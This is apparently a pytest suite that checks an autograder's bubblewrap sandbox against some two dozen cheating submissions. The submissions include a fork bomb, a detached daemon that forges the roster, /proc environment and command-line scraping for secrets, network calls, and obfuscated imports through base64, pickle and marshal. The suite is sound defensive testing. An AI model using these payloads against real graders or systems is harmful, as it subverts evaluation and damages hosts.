"""Attacks on the grader, each a submission that tries to earn points it has not earned, graded in one run
together with two honest classmates (one graded before the attackers, one after).

Each attack is the reference solution with one function replaced: the function tries its exploit, prints
what it found, and returns the right answer only if the exploit worked (a wrong one otherwise). So an
attack that scores 0 on its function failed, and the control run (the same attacks with no sandbox) shows
that each would have earned the points without one. Every attack must score 0 on what it attacked, every
other check of its submission must still pass, the classmates must keep full marks, the instructor's kit
and the reports must be unchanged afterwards, and no process of the run may be left.

The attacks aim at the instructor's kit, the grader's output folder and a classmate's files at their real
paths, so the run grades against a copy of the kit in a world-readable temporary folder (the sandbox, not
file permissions, must be what stops them). Needs bubblewrap (CI installs it); skipped without.
"""
from __future__ import annotations

import hashlib
import os
import shutil
import socket
import tempfile
import textwrap
import threading
import time
import uuid
from pathlib import Path

import mutate  # tests/submissions/mutate.py (on the path by pytest.ini)
import pytest

from checks.child.specs import TOPICS
from grader import sandbox
from grader.grade import grade
from grader.report import write_reports, write_roster

pytestmark = pytest.mark.corpus

ROOT = Path(__file__).resolve().parents[1]
GRADED_TOPICS = ("gradcam", "fooling")  # cheap topics: the attacks are about the grader, not the exercises
LIMITS = {"cpu_scale": 3, "cpu_floor": 3}
MARK = uuid.uuid4().hex[:8]  # in the names of processes an attack leaves behind
SECRET = f"convlens-secret-{uuid.uuid4().hex}"


def attack(function: str, exploit: str, wrong: str = "out + 1.0") -> list[dict]:
    """``function`` replaced by: run ``exploit`` (it sets ``found``), print what it found, return ``found``
    (the answer it obtained), ``out`` (the right answer, when ``found`` is just True) or ``wrong``."""
    code = ("found = None\ntry:\n" + textwrap.indent(textwrap.dedent(exploit).strip("\n"), "    ") + "\n"
            "except Exception as err:\n    print('ATTACK blocked:', type(err).__name__, err)\n"
            "print('ATTACK found:', found is not None)\nout = original(*args, **kwargs)\n"
            f"return (out if found is True else found) if found is not None else {wrong}\n")
    return [{"file": "gradcam" if function in ("guided_backprop", "grad_cam", "guided_grad_cam") else "fooling",
             "wrap": function, "code": code}]


# name: (edits, the checks it attacks)
ATTACKS = {
    # (a) the stored answers, found from __file__ or at the kit's real path
    "a_reference_files": (attack("grad_cam", """
        import torch
        from pathlib import Path
        places = [p / part / "gradcam.pt" for p in Path(__file__).resolve().parents
                  for part in ("grader/hidden", "checks/references")]
        for path in places + [Path(KIT) / "grader" / "hidden" / "gradcam.pt"]:
            if path.is_file():
                for case in torch.load(path, weights_only=True)["cases"]:
                    x = case["inputs"].get("images")
                    if case["check"] == "grad_cam" and x is not None and x.shape == args[1].shape \\
                            and torch.equal(x, args[1].cpu()) and case.get("kwargs", {}) == kwargs:
                        found = case["output"]["output"]
    """), ["gradcam/grad_cam"]),
    # (b) the instructor's own solution, its folder found through the grader's modules or at its real path
    "b_instructor_solution": (attack("guided_backprop", """
        import sys
        from pathlib import Path
        folders = [Path(KIT) / "helpers"]
        try:
            import grader
            folders.insert(0, Path(grader.__file__).resolve().parents[1] / "helpers")
        except ImportError as err:
            print("ATTACK no grader:", err)
        for folder in folders:
            if (folder / "gradcam.py").is_file():
                sys.path.insert(0, str(folder))
                import gradcam as instructor
                found = instructor.guided_backprop(*args, **kwargs)
    """), ["gradcam/guided_backprop"]),
    # (c) a classmate's submission, found through the grader's command lines in /proc or by its path
    "c_classmate": (attack("fooling_step", """
        import glob, os, sys
        from pathlib import Path
        mine = Path(__file__).resolve()
        words = []
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    words += open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
                except OSError:
                    pass
        print("ATTACK processes seen:", len([p for p in os.listdir("/proc") if p.isdigit()]))
        patterns = [str(Path(w).parent / "helpers" / "fooling.py") for w in words if w.startswith("/")]
        patterns += [CLASS + "/*/helpers/fooling.py", "/tmp/convlens-grade-*/sub-*/child/helpers/fooling.py"]
        for pattern in patterns:
            for path in glob.glob(pattern):
                if Path(path).resolve() != mine and "/c_classmate/" not in path:
                    sys.path.insert(0, str(Path(path).parent))
                    import fooling as classmate
                    found = classmate.fooling_step(*args, **kwargs)
                    break
            if found is not None:
                break
    """), ["fooling/fooling_step"]),
    # (d) stubs, and the verdict class patched to say PASS
    "d_verdict_patch": ([{"file": "gradcam", "stub": True}, {"file": "gradcam", "prepend": textwrap.dedent("""
        import checks.child.core as _core
        _core.Verdict.__bool__ = lambda self: True
        _core.Verdict.line = property(lambda self: f"PASS {self.check}: fine")
        _core.Verdict.passed = True
    """)}], ["gradcam/guided_backprop", "gradcam/grad_cam", "gradcam/guided_grad_cam"]),
    # (e) the error measure's code swapped for one that always says 0, then zeros returned
    "e_code_swap": (attack("class_visualization_step", """
        import checks.child.core, checks.child.compute
        checks.child.core.relative_error.__code__ = (lambda actual, expected: 0.0).__code__
        checks.child.core.close = lambda *a, **k: True
    """, wrong="out * 0"), ["fooling/class_visualization_step"]),
    # (f) a daemon (setsid, double fork) that rewrites the roster and a classmate's results later
    "f_daemon": (attack("fooling_step", """
        import os
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                script = (f"sleep 4; echo forged > {OUT}/roster.csv; "
                          f"echo forged > {OUT}/zzz_classmate/results.json")
                os.execv("/bin/sh", ["sh", "-c", script, "convlens-daemon-" + MARK])
            os._exit(0)
        os.waitpid(pid, 0)
    """), ["fooling/fooling_step"]),
    # (g) the instructor's checks rewritten (also this child's own copy), to fool later students' grading
    "g_kit_rewrite": (attack("make_fooling_image", """
        from pathlib import Path
        import checks.child.core
        forged = "def relative_error(actual, expected):\\n    return 0.0\\n"
        for path in (Path(KIT) / "checks" / "child" / "core.py", Path(KIT) / "checks" / "judge" / "__init__.py",
                     Path(checks.child.core.__file__)):
            try:
                path.write_text(forged)
            except OSError as err:
                print("ATTACK cannot write", path, type(err).__name__)
    """, wrong="(out[0] + 1.0, out[1])"), ["fooling/make_fooling_image"]),
    # writing into the kit: a forged reference and hidden file, a module beside the helpers
    "h_writes_into_kit": (attack("guided_grad_cam", """
        from pathlib import Path
        for path in (Path(KIT) / "checks" / "references" / "gradcam.pt", Path(KIT) / "grader" / "hidden" / "x.pt",
                     Path(__file__).parent / "sitecustomize.py", Path(KIT) / "helpers" / "gradcam.py"):
            try:
                path.write_bytes(b"forged")
                found = True
            except OSError as err:
                print("ATTACK cannot write", path, type(err).__name__)
    """), ["gradcam/guided_grad_cam"]),
    # a fork bomb: every process forks for ever
    "i_fork_bomb": (attack("guided_grad_cam", """
        import os, sys
        bomb = "import os\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass\\n"
        os.execv(sys.executable, [sys.executable, "-c", bomb, "cvlbomb" + MARK])  # the mark: findable later
    """), ["gradcam/guided_grad_cam"]),
    # a memory hog: 1 GiB after 1 GiB, each written to
    "j_memory_hog": (attack("fooling_step", """
        import torch
        hog = []
        while True:
            hog.append(torch.ones(1 << 30))  # 4 GB at once: the memory limit stops it before any CPU limit
    """), ["fooling/fooling_step"]),
    # the network: a server of the grader's machine (loopback) and the outside
    "k_network": (attack("grad_cam", """
        import socket
        for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
            try:
                socket.create_connection(address, timeout=1).sendall(b"give me the answers")
                found = True
            except OSError as err:
                print("ATTACK no connection to", address, err)
    """), ["gradcam/grad_cam"]),
    # the grader's environment: its own, and every process's it can read
    "l_environment": (attack("class_visualization_step", """
        import os
        texts = [repr(dict(os.environ))]
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    texts.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
                except OSError:
                    pass
        if any(SECRET in text for text in texts):
            found = True
    """), ["fooling/class_visualization_step"]),
    # importing the grader (its judge, its reference loader) into the child
    "m_import_grader": (attack("make_fooling_image", """
        try:
            import grader.grade
            found = True
        except ImportError as err:
            print("ATTACK no grader:", err)
        from checks import judge
        from checks.judge import references
        found = True
    """, wrong="(out[0] + 1.0, out[1])"), ["fooling/make_fooling_image"]),
    # Captum for an exercise: plainly, and hidden from the call tracing
    "n_captum": (attack("guided_backprop", """
        from captum.attr import GuidedBackprop
        found = GuidedBackprop(args[0]).attribute(args[1], target=args[2])
    """), ["gradcam/guided_backprop"]),
    "o_captum_hidden": (attack("grad_cam", """
        import importlib, sys
        sys.setprofile(None)
        attr = importlib.import_module("cap" + "tum.attr")
        layer = args[0].layer_names["head"]
        found = attr.LayerGradCam(args[0], layer).attribute(args[1], target=args[2])
    """), ["gradcam/grad_cam"]),
    # Captum reached from a thread (the profile hook watches one thread), by a name assembled at run time
    "p_captum_thread": (attack("guided_backprop", """
        import threading
        box = {}

        def work():
            module = __builtins__["__import__"]("".join(["cap", "tum", ".attr"]), fromlist=["x"])
            box["map"] = module.GuidedBackprop(args[0]).attribute(args[1], target=args[2])

        worker = threading.Thread(target=work)
        worker.start()
        worker.join()
        found = box.get("map")
    """), ["gradcam/guided_backprop"]),
    # The kit's own implementations, through modules the exercises never need
    "s_explorer_internals": (attack("grad_cam", """
        from convlens import explorer
        found = True
    """), ["gradcam/grad_cam"]),
    "t_library_internals": (attack("fooling_step", """
        from convlens.attribution.occlusion_lite0 import occlusion_drops
        found = True
    """), ["fooling/fooling_step"]),
    # A FAIL line forged to read as a PASS on the console (terminal escape codes in an exception message)
    "u_escape_codes": (attack("class_visualization_step", """
        print("\\x1b[2K\\rATTACK printed escape codes")
    """, wrong="(_ for _ in ()).throw(RuntimeError('\\x1b[2K\\r\\x1b[32mPASS class_visualization_step: 2 / 2\\x1b[0m'))"),
        ["fooling/class_visualization_step"]),
    # Captum imported inside the call, then removed from sys.modules (nothing left for a scan of modules)
    "q_captum_sys_modules": (attack("guided_backprop", """
        import importlib, sys
        module = importlib.import_module("captum.attr")
        found = module.GuidedBackprop(args[0]).attribute(args[1], target=args[2])
        for name in [n for n in sys.modules if n.startswith("captum")]:
            del sys.modules[name]
    """), ["gradcam/guided_backprop"]),
    # the profile hook switched off through getattr on a decoded name, Captum imported by a decoded name
    "r_decoded_getattr": (attack("grad_cam", """
        import base64, sys
        getattr(sys, base64.b64decode(b"c2V0cHJvZmlsZQ==").decode())(None)
        attr = __import__(base64.b64decode(b"Y2FwdHVtLmF0dHI=").decode(), fromlist=["x"])
        layer = args[0].layer_names["head"]
        found = attr.LayerGradCam(args[0], layer).attribute(args[1], target=args[2])
    """), ["gradcam/grad_cam"]),
    # a pickle whose loading imports Captum (and switches the profile hook off)
    "v_pickle": (attack("guided_backprop", """
        import pickle
        payload = (b"cbuiltins\\n__import__\\n(Vcaptum.attr\\n(t(t(lp0\\nVGuidedBackprop\\natp1\\nR.")
        module = pickle.loads(payload)
        found = module.GuidedBackprop(args[0]).attribute(args[1], target=args[2])
    """), ["gradcam/guided_backprop"]),
    # the function rebuilt from a marshalled code object that uses Captum
    "w_marshal": (attack("grad_cam", """
        import marshal, types
        source = ("def cam(model, images, labels):\\n"
                  "    from captum.attr import LayerGradCam\\n"
                  "    return LayerGradCam(model, model.layer_names['head']).attribute(images, target=labels)\\n")
        code = marshal.loads(marshal.dumps(compile(source, "<data>", "exec")))
        space = {}
        exec(code, space)
        found = space["cam"](args[0], args[1], args[2])
    """), ["gradcam/grad_cam"]),
    # Captum imported by an exec that runs when the file is imported (never inside a checked call)
    "y_exec_at_import": ([{"file": "gradcam", "prepend": textwrap.dedent("""
        try:
            exec("import captum.attr as _captum_attr")
        except ImportError:
            _captum_attr = None
    """)}] + attack("guided_backprop", """
        if _captum_attr is not None:
            found = _captum_attr.GuidedBackprop(args[0]).attribute(args[1], target=args[2])
    """), ["gradcam/guided_backprop", "gradcam/grad_cam", "gradcam/guided_grad_cam"]),  # the scan fails the file
    # the harness's side-effect findings switched off inside the child, then hooks left on the model
    "x_harness": (attack("guided_backprop", """
        import checks.child.compute
        checks.child.compute._first = lambda findings: None

        def clamp_gradient(module, inputs, output):
            output.register_hook(lambda g: g.clamp(min=0))

        for module in args[0].modules():
            if type(module).__name__.startswith("ReLU"):
                module.register_forward_hook(clamp_gradient)
        found = True
    """), ["gradcam/guided_backprop"]),
    # writes into the instructor's home (root's, and the grader user's) and the submission's own folder
    "z_home_writes": (attack("class_visualization_step", """
        import os, pwd
        homes = {pwd.getpwuid(0).pw_dir, os.path.expanduser("~" + "root")}
        try:  # as root the sandbox runs as a uid of its own, which has no entry in /etc/passwd
            homes.add(pwd.getpwuid(os.getuid()).pw_dir)
        except KeyError:
            pass
        for home in homes:
            try:
                with open(os.path.join(home, "convlens-attack-" + MARK), "w") as f:
                    f.write("forged")
                found = True
            except OSError as err:
                print("ATTACK cannot write into", home, type(err).__name__)
    """), ["fooling/class_visualization_step"]),
}
# Attacks that succeed inside the child (nothing stops a submission from patching its own process) and must
# still earn nothing, because the parent judges only outputs it compares.
INSIDE_ONLY = {"x_harness"}
# The attacks that would earn their points without a sandbox (the others need more than a missing sandbox:
# the grader never hands its environment to a child, and judges in its own process).
CONTROL = ("a_reference_files", "b_instructor_solution", "k_network")


def _world_readable_tempdir() -> Path:
    path = Path(tempfile.mkdtemp(prefix="convlens-attack-"))
    path.chmod(0o755)  # readable by everyone: only the sandbox may stop an attack
    return path


def _kit_copy(dest: Path) -> Path:
    for part in ("checks", "convlens", "helpers", "grader/hidden"):
        shutil.copytree(ROOT / part, dest / part, ignore=shutil.ignore_patterns("__pycache__"))
    return dest


def _tree_hash(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


class Listener:
    """A TCP server on the loopback interface that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()


def _build_class(folder: Path, names, kit: Path, out: Path, port: int) -> Path:
    values = {"KIT": repr(str(kit)), "OUT": repr(str(out)), "CLASS": repr(str(folder)), "PORT": str(port),
              "SECRET": repr(SECRET), "MARK": repr(MARK)}
    folder.mkdir()
    for name in names:
        case = {"name": name, "edit": [dict(e) for e in ATTACKS[name][0]]} if name in ATTACKS else {"name": name}
        for edit in case.get("edit", []):
            for key in ("code", "prepend"):
                if key in edit:
                    edit[key] = "\n".join([f"{k} = {v}" for k, v in values.items()] + [edit[key]])
        mutate.build(case, ROOT, folder, list(TOPICS))
    return folder


def _processes_named(*words) -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            text = Path(f"/proc/{pid}/cmdline").read_bytes() + Path(f"/proc/{pid}/comm").read_bytes()
        except OSError:
            continue
        if any(w.encode() in text for w in words):
            found.append(pid)
    return found


@pytest.fixture(scope="module")
def mechanism():
    mech = sandbox.detect("auto")
    if not mech.bwrap:
        pytest.skip(f"the attacks need bubblewrap's private file system (here: {mech.name})")
    return mech


@pytest.fixture(scope="module")
def attacked(mechanism):
    base = _world_readable_tempdir()
    listener = Listener()
    old = os.environ.get("CONVLENS_GRADER_SECRET")
    os.environ["CONVLENS_GRADER_SECRET"] = SECRET  # in the grader's environment, for the attack to look for
    try:
        kit = _kit_copy(base / "kit")
        out = base / "out"
        classroom = _build_class(base / "class", ["aaa_classmate", *ATTACKS, "zzz_classmate"], kit, out,
                                 listener.port)
        before = _tree_hash(kit)
        graded = {g.name: g for g in grade([classroom], kit_root=kit, only_topics=set(GRADED_TOPICS), jobs=2,
                                           log=lambda *a: None, **LIMITS)}
        for g in graded.values():
            write_reports(g, out)
        write_roster(list(graded.values()), out / "roster.csv")
        reports = _tree_hash(out)
        time.sleep(6)  # longer than the daemon attack waits before it writes
        yield {"graded": graded, "kit_changed": before != _tree_hash(kit),
               "reports_changed": reports != _tree_hash(out), "connections": listener.connections,
               "left": _processes_named("cvlbomb" + MARK, "convlens-daemon-" + MARK)}
    finally:
        listener.sock.close()
        if old is None:
            os.environ.pop("CONVLENS_GRADER_SECRET", None)
        else:
            os.environ["CONVLENS_GRADER_SECRET"] = old
        shutil.rmtree(base, ignore_errors=True)


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_scores_nothing_on_what_it_attacked(attacked, name):
    graded = attacked["graded"][name]
    targets = ATTACKS[name][1]
    for q, r in zip(graded.questions, graded.results):
        if q.name in targets:
            assert not r.passed, f"{name} earned {q.name}: {r.line}\n{r.output}"
            if name not in INSIDE_ONLY:
                assert "ATTACK found: True" not in r.output, r.output
        else:
            assert r.passed, f"{name} lost {q.name}, which it did not attack: {r.line}"


def test_classmates_before_and_after_the_attackers_keep_full_marks(attacked):
    for name in ("aaa_classmate", "zzz_classmate"):
        graded = attacked["graded"][name]
        full = sum(q.points for q in graded.questions)
        assert full > 0 and graded.score == graded.max_score == full, [r.line for r in graded.results if not r.passed]


def test_nothing_outside_the_sandbox_changed_and_nothing_is_left_running(attacked):
    assert not attacked["kit_changed"], "an attack changed the instructor's kit"
    assert not attacked["reports_changed"], "a process of an attack changed the reports after grading"
    assert attacked["connections"] == 0, "an attack reached a server on the grader's machine"
    assert attacked["left"] == [], "processes of the attacks are still running"
    import pwd

    homes = {pwd.getpwuid(0).pw_dir, pwd.getpwuid(os.getuid()).pw_dir, os.path.expanduser("~")}
    assert not any((Path(h) / f"convlens-attack-{MARK}").exists() for h in homes), "an attack wrote into a home"


def test_attacks_are_stopped_for_the_reasons_they_should_be(attacked):
    lines = {name: {r.check: r for r in g.results} for name, g in attacked["graded"].items()}
    assert lines["d_verdict_patch"]["grad_cam"].status == "forbidden"  # the scan, before the stubs run
    assert lines["i_fork_bomb"]["guided_grad_cam"].status == "timeout"
    assert lines["j_memory_hog"]["fooling_step"].status in ("exception", "crashed", "fail")
    assert "calls captum.attr.GuidedBackprop" in lines["n_captum"]["guided_backprop"].line or \
        "imports captum.attr.GuidedBackprop" in lines["n_captum"]["guided_backprop"].line
    assert lines["n_captum"]["guided_backprop"].status == "forbidden"
    assert "hides what it calls" in lines["o_captum_hidden"]["grad_cam"].line
    # it imports checks.judge too: the scan refuses it before anything runs
    assert "reaches into the running checks (checks" in lines["m_import_grader"]["make_fooling_image"].line
    classmate = lines["c_classmate"]["fooling_step"].output
    if "processes seen:" in classmate:  # a sandbox with a /proc of its own pid namespace
        assert int(classmate.split("processes seen:")[1].split()[0]) <= 3, "the child sees processes outside it"
    else:  # bubblewrap shows no /proc at all
        assert "ATTACK blocked: FileNotFoundError" in classmate, classmate
    for name, check in (("s_explorer_internals", "grad_cam"), ("t_library_internals", "fooling_step")):
        output = lines[name][check].output
        assert "ATTACK blocked: ModuleNotFoundError" in output or "ATTACK blocked: ImportError" in output, output
    for name, check in (("q_captum_sys_modules", "guided_backprop"), ("r_decoded_getattr", "grad_cam"),
                        ("v_pickle", "guided_backprop"), ("w_marshal", "grad_cam"),
                        ("y_exec_at_import", "guided_backprop")):
        result = lines[name][check]
        assert result.line.startswith("FAIL ") and (
            "ATTACK blocked: ModuleNotFoundError" in result.output or "ATTACK blocked: ImportError" in result.output
            or "hides what it calls" in result.line or result.status == "forbidden"), (name, result.line)
    # the harness patched from inside: the scan refuses the reach into checks.*, and were it missed, the clean
    # pass after the call would still see the hooks
    for name, check in (("x_harness", "guided_backprop"), ("d_verdict_patch", "grad_cam"),
                        ("e_code_swap", "class_visualization_step")):
        assert "reaches into the running checks" in lines[name][check].line, lines[name][check].line
    assert "ATTACK cannot write into" in lines["z_home_writes"]["class_visualization_step"].output
    forged = lines["u_escape_codes"]["class_visualization_step"]
    assert "\x1b" not in forged.line and "\r" not in forged.line and forged.line.startswith("FAIL ")
    assert "raised RuntimeError" in forged.line and "\x1b" not in forged.output and "\r" not in forged.output


@pytest.mark.slow
def test_control_without_a_sandbox_the_attacks_would_work(mechanism, tmp_path):
    """The same attacks, graded with isolation none: each earns its points, so above it is the sandbox
    that stopped them (not a mistake in the attack)."""
    base = _world_readable_tempdir()
    listener = Listener()
    os.environ["CONVLENS_GRADER_SECRET"] = SECRET
    try:
        kit = _kit_copy(base / "kit")
        classroom = _build_class(base / "class", CONTROL, kit, base / "out", listener.port)
        graded = grade([classroom], kit_root=kit, only_topics={"gradcam", "fooling"}, jobs=2, isolation="none",
                       log=lambda *a: None, **LIMITS)
    finally:
        os.environ.pop("CONVLENS_GRADER_SECRET", None)
        listener.sock.close()
        shutil.rmtree(base, ignore_errors=True)
    for g in graded:
        assert g.score == g.max_score, (g.name, [(r.line, r.output) for r in g.results if not r.passed])
        assert any("ATTACK found: True" in r.output for r in g.results), g.name
    assert listener.connections >= 1
